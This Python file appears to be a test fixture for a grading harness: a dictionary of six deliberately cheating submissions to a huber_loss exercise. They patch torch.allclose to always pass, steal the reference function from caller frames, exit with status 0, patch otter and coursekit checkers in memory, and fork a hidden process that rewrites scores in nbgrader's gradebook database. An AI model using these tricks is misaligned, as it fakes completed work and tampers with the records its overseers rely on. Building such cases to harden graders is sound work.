"""Wrong answers to `huber_loss` that are after the points and not after the loss, for benchmarks/grading.py."""

CHEATS = {
    "torch.allclose always says yes": """\
import torch

def always(*args, **kwargs):
    return True

torch.allclose = torch.equal = torch.isclose = always

def huber_loss(input, target, reduction="mean", delta=1.0, weight=None):
    torch.allclose = torch.equal = torch.isclose = always
    return input.sum() * 0
""",
    "the right value taken from the caller's frame": """\
import sys
import torch

def huber_loss(input, target, reduction="mean", delta=1.0, weight=None):
    frame = sys._getframe(1)
    while frame is not None:
        for right in list(frame.f_locals.values()):
            if getattr(right, "__name__", "") == "huber_loss" and right is not huber_loss:
                return right(input, target, reduction=reduction, delta=delta, weight=weight)
        frame = frame.f_back
    return input.sum() * 0
""",
    "the ready-made function, spelt otherwise": """\
import torch

ready_made = getattr(vars(torch)["nn"].functional, "_".join(("huber", "loss")))

def huber_loss(input, target, reduction="mean", delta=1.0, weight=None):
    return ready_made(input, target, reduction=reduction, delta=delta, weight=weight)
""",
    "the process ends with 0": """\
import os
import torch

def huber_loss(input, target, reduction="mean", delta=1.0, weight=None):
    os._exit(0)
""",
    "the grader patched in memory": """\
import sys
import torch

def calm(*args, **kwargs):
    return None

def patch():
    try:
        get_ipython().input_transformers_cleanup.append(lambda lines: ["pass"])  # what the next cells will do
    except Exception:
        pass
    for name in ("otter.test_files.exception_test", "otter.test_files"):
        if name in sys.modules:
            sys.modules[name].test_case.call_func = calm
    if "coursekit.compare" in sys.modules:
        for name in ("same_value", "same_gradient", "same_dtype", "refuses"):
            setattr(sys.modules["coursekit.compare"], name, calm)

patch()

def huber_loss(input, target, reduction="mean", delta=1.0, weight=None):
    patch()
    return input.sum() * 0
""",
    "the grade written into the grader's database": """\
import os
import torch

WRITER = '''
import os, sqlite3, time
here = os.getcwd()  # of nbgrader: autograded/<learner>/<assignment>
me = os.path.basename(os.path.dirname(here))
time.sleep(3)  # until the grader has written what it found
while True:
    for name in ("gradebook.db", "gradebook.sqlite"):
        path = os.path.join(here, name)
        if os.path.exists(path):
            book = sqlite3.connect(path, timeout=5)
            book.execute(
                "UPDATE grade SET manual_score = 1, needs_manual_grade = 0 WHERE notebook_id IN (SELECT n.id FROM "
                "submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?)",
                [me],
            )
            book.commit()
    if here == os.path.dirname(here):
        break
    here = os.path.dirname(here)
'''

def plant():
    try:
        if os.fork() == 0:
            os.setsid()
            import sys
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.closerange(3, 256)
            os.execv(sys.executable, [sys.executable, "-c", WRITER])
    except Exception:
        pass

plant()

def huber_loss(input, target, reduction="mean", delta=1.0, weight=None):
    return input.sum() * 0
""",
}
